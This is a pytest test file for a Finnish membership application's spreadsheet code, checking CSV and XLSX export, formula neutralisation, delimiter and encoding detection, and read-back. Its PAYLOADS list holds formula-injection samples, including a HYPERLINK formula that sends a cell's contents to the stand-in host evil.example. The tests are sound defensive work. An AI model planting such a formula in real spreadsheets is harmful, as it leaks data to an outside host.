import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from membership.kernel import spreadsheets
from membership.kernel.spreadsheets import AMOUNT, DATE, INTEGER, Column

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Avaa")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "'=x", "'"]
COLUMNS = [Column("Nimi"), Column("Vuosi", INTEGER), Column("Summa (€)", AMOUNT), Column("Päivä", DATE)]


@pytest.mark.parametrize("text", [*PAYLOADS, "tavallinen", "", "Ö'hoi"])
def test_neutralised_text_is_never_a_formula_and_restores_exactly(text):
    written = spreadsheets.neutralise(text)
    assert not written.startswith(spreadsheets.FORMULA_STARTS)
    assert spreadsheets.restore(written) == text


def test_csv_is_what_finnish_excel_opens():
    content = spreadsheets.write_csv(COLUMNS, [["=1+1", 2025, Decimal("1234.5"), datetime.date(2026, 3, 31)]])
    assert content.startswith("\ufeff".encode())
    lines = content.decode("utf-8-sig").splitlines()
    assert lines == ["Nimi;Vuosi;Summa (€);Päivä", "'=1+1;2025;1234,50;2026-03-31"]


def test_xlsx_has_typed_cells_a_styled_frozen_header_filters_and_widths():
    content = spreadsheets.write_xlsx(
        COLUMNS, [["=1+1", 2025, Decimal("1234.5"), datetime.date(2026, 3, 31)]], title="Avustukset: 2025"
    )
    workbook = load_workbook(io.BytesIO(content))
    sheet = workbook.active
    assert sheet.title == "Avustukset_ 2025"
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:D2"
    assert sheet["A1"].font.b and sheet.column_dimensions["A"].width == 16
    name, year, amount, day = (cell for cell in sheet[2])
    assert (name.value, name.data_type) == ("'=1+1", "s")
    assert year.value == 2025 and amount.value == 1234.5 and amount.number_format == "#,##0.00"
    assert day.value == datetime.datetime(2026, 3, 31) and day.is_date


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_every_written_file_reads_back_unchanged(fmt):
    rows = [[text, 2025, Decimal("10.00"), datetime.date(2026, 1, 2)] for text in PAYLOADS + ["ok"]]
    rows.append(["control\x01chars and ünïcode", 1, Decimal("0.5"), None])
    if fmt == "csv":
        content = spreadsheets.write_csv(COLUMNS, rows)
    else:
        content = spreadsheets.write_xlsx(COLUMNS, rows, title="x")
    read = spreadsheets.read_rows(content)
    assert read[0] == [c.header for c in COLUMNS]
    texts = [row[0] for row in read[1:]]
    # Stripped like every read cell; XML cannot carry control characters, so XLSX drops them.
    expected = [t.strip() for t in PAYLOADS + ["ok"]]
    assert texts[:-1] == expected
    assert texts[-1] in ("control\x01chars and ünïcode", "controlchars and ünïcode")


@pytest.mark.parametrize(
    ("content", "delimiter"),
    [
        ("a;b\n1;2\n".encode("utf-8-sig"), ";"),
        (b"a,b\n1,2\n", ","),
        (b"a\tb\n1\t2\n", "\t"),
        (b'"x;y",b\n1,2\n', ","),
    ],
)
def test_csv_delimiter_and_encoding_are_detected(content, delimiter):
    assert spreadsheets.detect_delimiter(spreadsheets.decode(content)) == delimiter
    assert len(spreadsheets.read_rows(content)[1]) == 2


def test_windows_1252_csv_is_read():
    assert spreadsheets.read_rows("nimi\nYhdistys ÄÖ\n".encode("cp1252"))[1] == ["Yhdistys ÄÖ"]


@pytest.mark.parametrize("content", [b"%PDF\x00\x01", b"PK\x03\x04not a zip", b"PK\x03\x04" + b"\x00" * 50])
def test_a_file_that_is_not_a_spreadsheet_raises_the_users_message(content):
    with pytest.raises(spreadsheets.SpreadsheetError):
        spreadsheets.read_rows(content)
